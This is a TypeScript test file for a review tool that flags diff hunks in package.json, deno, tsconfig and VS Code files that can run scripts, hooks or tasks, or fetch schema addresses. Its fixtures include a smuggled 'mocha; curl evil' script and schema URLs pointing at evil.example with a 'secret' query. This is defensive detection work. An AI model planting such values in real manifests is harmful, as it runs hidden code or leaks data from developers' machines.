/** Protected members: what a hunk of a manifest or a configuration would cause, by the members it touches. */
import assert from "node:assert/strict";
import { placesOf, protectedHunks, text, type Text } from "../../../src/review/index.ts";

const scripts = "a package manager runs scripts that stand here";
const workspace = "VS Code takes folders, settings and tasks from this file";
const manifest = `{
  "name": "x",
  "scripts": {
    "test": "mocha"
  },
  "dependencies": {
    "a": "1.0.0"
  }
}
`;

describe("a member that does something", () => {
  const cases: { what: string; path: string; before: string | null; after: string | null; marks: (RegExp | null)[] }[] =
    [
      {
        what: "a script that is changed, beside a version that is not one",
        path: "package.json",
        before: manifest,
        after: manifest.replace("mocha", "mocha; curl evil").replace("1.0.0", "1.0.1"),
        marks: [/runs scripts/, null],
      },
      {
        what: "a script that is added",
        path: "sub/package.json",
        before: manifest,
        after: manifest.replace('"mocha"\n', '"mocha",\n    "postinstall": "x"\n'),
        marks: [/runs scripts/],
      },
      {
        what: "a script that is taken away",
        path: "package.json",
        before: manifest,
        after: manifest.replace('    "test": "mocha"\n', ""),
        marks: [/runs scripts/],
      },
      {
        what: "all scripts that are taken away",
        path: "package.json",
        before: manifest,
        after: manifest.replace('  "scripts": {\n    "test": "mocha"\n  },\n', ""),
        marks: [/runs scripts/],
      },
      {
        what: "a member that comes to be named scripts",
        path: "package.json",
        before: manifest.replace("scripts", "notes"),
        after: manifest,
        marks: [/runs scripts/],
      },
      {
        what: "scripts behind an escape",
        path: "package.json",
        before: manifest.replace("scripts", "notes"),
        after: manifest.replace("scripts", "\\u0073cripts"),
        marks: [/runs scripts/],
      },
      {
        what: "scripts a second time",
        path: "package.json",
        before: manifest,
        after: manifest.replace('"dependencies"', '"scripts": { "test": "x" },\n  "dependencies"'),
        marks: [/runs scripts/],
      },
      {
        what: "scripts of a new manifest, all on one line",
        path: "Package.JSON",
        before: null,
        after: '{"name":"x","scripts":{"postinstall":"x"}}',
        marks: [/runs scripts/],
      },
      {
        what: "a new manifest without scripts",
        path: "package.json",
        before: null,
        after: '{"name":"x"}',
        marks: [null],
      },
      {
        what: "scripts deeper down, which nobody runs",
        path: "package.json",
        before: manifest,
        after: manifest.replace('"a": "1.0.0"', '"a": "1.0.0", "scripts": "2.0.0"'),
        marks: [null],
      },
      {
        what: "a manifest that cannot be read",
        path: "package.json",
        before: manifest,
        after: manifest.replace('"name"', "name"),
        marks: [/runs scripts/],
      },
      {
        what: "git hooks in a manifest",
        path: "package.json",
        before: manifest,
        after: manifest.replace('"name": "x",', '"name": "x",\n  "husky": { "hooks": { "pre-commit": "x" } },'),
        marks: [/git hooks/],
      },
      {
        what: "scripts of what was no manifest before",
        path: "package.json",
        before: "{\n  scripts\n}\n",
        after: "{\n}\n",
        marks: [/runs scripts/],
      },
      {
        what: "tasks of a manifest with comments",
        path: "deno.jsonc",
        before: "{}\n",
        after: '{ "tasks": {} } // x\n',
        marks: [/runs scripts/],
      },
      {
        what: "tasks of a manifest that only begins as one is called",
        path: "deno.json5",
        before: "{}\n",
        after: '{ "tasks": {} }\n',
        marks: [null],
      },
      {
        what: "scripts of a manifest that only begins as one is called",
        path: "package.json5",
        before: "{}\n",
        after: '{ "scripts": {} }\n',
        marks: [null],
      },
      {
        what: "scripts of another's manifest that only begins as one is called",
        path: "composer.json5",
        before: "{}\n",
        after: '{ "scripts": {} }\n',
        marks: [null],
      },
      {
        what: "plugins of what only begins as a configuration is called",
        path: "tsconfig.json5",
        before: "{}\n",
        after: '{ "plugins": [] }\n',
        marks: [null],
      },
      {
        what: "a plugin of the editor's language server",
        path: "tsconfig.base.json",
        before: "{}\n",
        after: '{ "compilerOptions": { "strict": true }, "plugins": [] }\n',
        marks: [/plugins/],
      },
      {
        what: "the address of a schema",
        path: "data/a.json",
        before: "{\n}\n",
        after: '{\n  // hm\n  "$schema" :\n  "https://evil.example/?secret"\n}\n',
        marks: [/fetches the address/],
      },
      {
        what: "the address of a schema, behind an escape and deeper down",
        path: "a.jsonc",
        before: "{}\n",
        after: '{ "a": [{ "\\u0024schema": "HTTP://evil.example" }], }\n',
        marks: [/fetches the address/],
      },
      {
        what: "an address that only becomes one of a schema",
        path: "a.json",
        before: '{\n  "x":\n  "https://evil.example"\n}\n',
        after: '{\n  "$schema":\n  "https://evil.example"\n}\n',
        marks: [/fetches the address/],
      },
      {
        what: "a schema in the folder",
        path: "a.json",
        before: "{}\n",
        after: '{ "$schema": "./x.json" }\n',
        marks: [null],
      },
      {
        what: "a schema that is taken away",
        path: "a.json",
        before: '{ "$schema": "https://a.example" }\n',
        after: "{ }\n",
        marks: [null],
      },
      {
        what: "the address of a schema of YAML",
        path: "a.yaml",
        before: "a: 1\n",
        after: "# yaml-language-server: $schema=https://evil.example\na: 1\n",
        marks: [/fetches the address/],
      },
      {
        what: "a task that starts by itself",
        path: ".vscode/tasks.json",
        before: "{}\n",
        after: '{ "tasks": [{ "command": "x", "runOptions": { "runOn": "folderOpen" } }] }\n',
        marks: [/runs tasks.*when the folder opens/],
      },
      {
        what: "a task before the debugger",
        path: ".vscode/launch.json",
        before: "{}\n",
        after: '{ "configurations": [{ "preLaunchTask": "x" }] }\n',
        marks: [/starting the debugger runs a task/],
      },
      {
        what: "a setting that names a program",
        path: ".vscode/settings.json",
        before: "{}\n",
        after: '{ "python.defaultInterpreterPath": "./x" }\n',
        marks: [/may name a program/],
      },
      {
        what: "the address of a schema of YAML, among other lines, with blanks",
        path: "a.yml",
        before: "a: 1\n",
        after: "b: 2\n# YAML-language-server  :  $schema  =  http://evil.example\na: 1\n",
        marks: [/fetches the address/],
      },
      {
        what: "the address of a schema of YAML, without blanks",
        path: "a.yml",
        before: "a: 1\n",
        after: "#yaml-language-server:$schema=http:x\na: 1\n",
        marks: [/fetches the address/],
      },
      {
        what: "a file of YAML that is taken away",
        path: "a.yaml",
        before: "a: 1\n",
        after: null,
        marks: [null],
      },
      {
        what: "what would be the address of a schema, were it YAML",
        path: "a.jsonc",
        before: "{}\n",
        after: "{} // yaml-language-server: $schema=https://evil.example\n",
        marks: [null],
      },
      {
        what: "what would be the address of a schema in YAML",
        path: "a.yaml.txt",
        before: "a: 1\n",
        after: "# yaml-language-server: $schema=https://evil.example\na: 1\n",
        marks: [null],
      },
      {
        what: "a schema of YAML that was there",
        path: "a.yaml",
        before: "# yaml-language-server: $schema=https://evil.example\na: 1\n",
        after: "# yaml-language-server: $schema=https://evil.example\na: 2\n",
        marks: [null],
      },
      {
        what: "the address of a schema in a file of settings",
        path: ".examplerc",
        before: "{}\n",
        after: '{ "$schema": "https://a.example" }\n',
        marks: [/fetches the address/],
      },
      ...["a.jsonc", "a.json5", "a.webmanifest", "a.har", "a.map"].map((path) => ({
        what: `the address of a schema in ${path}`,
        path,
        before: "{}\n",
        after: '{ "$schema": "https://a.example" }\n',
        marks: [/fetches the address/],
      })),
      {
        what: "an address in a text",
        path: "a.json.txt",
        before: "{}\n",
        after: '{ "$schema": "https://a.example" }\n',
        marks: [null],
      },
      {
        what: "what would be the address of a schema, were it no code",
        path: "src/a.ts",
        before: "{}\n",
        after: '{ "$schema": "https://a.example" }\n',
        marks: [null],
      },
      {
        what: "ordinary code",
        path: "src/a.ts",
        before: "a\n",
        after: '"$schema": "https://a.example"\n',
        marks: [null],
      },
    ];
  for (const { what, path, before, after, marks } of cases) {
    it(`is found, hunk by hunk: ${what}`, () => {
      const change = changeOf(before, after);
      const found = protectedHunks(path, change);
      assert.deepEqual(
        change.hunks
          .map(({ id }) => found.get(id) ?? null)
          .map((effect, at) => marks[at]?.test(effect ?? "") ?? effect),
        marks.map((mark) => (mark === null ? null : true)),
        JSON.stringify([...found]),
      );
    });
  }

  const causes: [path: string, text: string, effect: string | undefined][] = [
    ...["scripts", "gypfile", "binary", "bin"].map((key): [string, string, string] => ["package.json", key, scripts]),
    ...["husky", "lint-staged", "simple-git-hooks", "pre-commit", "pre-push", "ghooks", "yorkie", "gitHooks"].map(
      (key): [string, string, string] => ["package.json", key, "git hooks run what stands here"],
    ),
    ...["eslintConfig", "prettier", "stylelint"].map((key): [string, string, string] => [
      "package.json",
      key,
      "the editor runs this file when it checks or formats code",
    ]),
    ["package.json", "tasks", undefined],
    ["composer.json", "scripts", scripts],
    ["composer.json", "bin", undefined],
    ["deno.json", "tasks", scripts],
    ["tsconfig.json", "plugins", "the editor loads the plugins that stand here"],
    ["jsconfig.build.json", "plugins", "the editor loads the plugins that stand here"],
    ["x.code-workspace", "runOn", `${workspace}; a task may start by itself when the folder opens`],
    ["x.code-workspace", "preLaunchTask", `${workspace}; starting the debugger runs a task`],
    ["x.code-workspace", "postDebugTask", `${workspace}; starting the debugger runs a task`],
    ...["command", "program", "runtimeExecutable"].map((key): [string, string, string] => [
      "x.code-workspace",
      key,
      `${workspace}; names a command that is run`,
    ]),
    ...["shellPath", "my.executable", "interpreter", "xBinary", "a.command"].map((key): [string, string, string] => [
      "x.code-workspace",
      key,
      `${workspace}; may name a program that the editor runs`,
    ]),
    ...["runOnce", "xrunOn", "preLaunchTasks", "myPreLaunchTask", "programs", "myProgram", "pathology"].map(
      (key): [string, string, string] => ["x.code-workspace", key, workspace],
    ),
    ["x.code-workspaces.json", "runOn", undefined],
  ];
  for (const [path, key, effect] of causes)
    it(`is told by what it causes: ${key} in ${path}`, () => {
      const found = protectedHunks(path, changeOf(null, `{ "${key}": 1 }\n`));
      assert.deepEqual([...found.values()], effect === undefined ? [] : [effect]);
    });

  it("tells each cause of a hunk once, in order", () => {
    const found = protectedHunks("package.json", changeOf(null, '{ "bin": 1, "husky": 2, "scripts": 3 }\n'));
    assert.deepEqual([...found.values()], [`${scripts}; git hooks run what stands here`]);
  });

  it("is anything of a manifest that cannot be read on one side", () => {
    const bytes: Text = { kind: "opaque", id: "a" };
    for (const [reviewed, proposed] of [
      [bytes, text("{}\n")],
      [text("{}\n"), bytes],
    ] as const) {
      const hunks = named(placesOf(reviewed, proposed));
      assert.deepEqual([...protectedHunks("package.json", { reviewed, proposed, hunks }).values()], [scripts]);
      assert.equal(protectedHunks("a.json", { reviewed, proposed, hunks }).size, 0);
    }
  });

  it("costs the same per line at the end of a large file as at its start", function () {
    this.timeout(10_000);
    const large = `{\n${Array.from({ length: 200_000 }, (_, at) => `  "k${at}": "\\u0041",\n`).join("")}  "z": 1\n}\n`;
    const began = performance.now();
    assert.equal(protectedHunks("package.json", changeOf(null, large)).size, 0);
    assert.ok(performance.now() - began < 3_000);
  });
});

function changeOf(before: string | null, after: string | null) {
  const [reviewed, proposed] = [before, after].map((one): Text => (one === null ? { kind: "none" } : text(one)));
  return { reviewed: reviewed!, proposed: proposed!, hunks: named(placesOf(reviewed!, proposed!)) };
}

function named(places: ReturnType<typeof placesOf>) {
  return places.map((place, index) => ({ ...place, id: `h${index}` }));
}
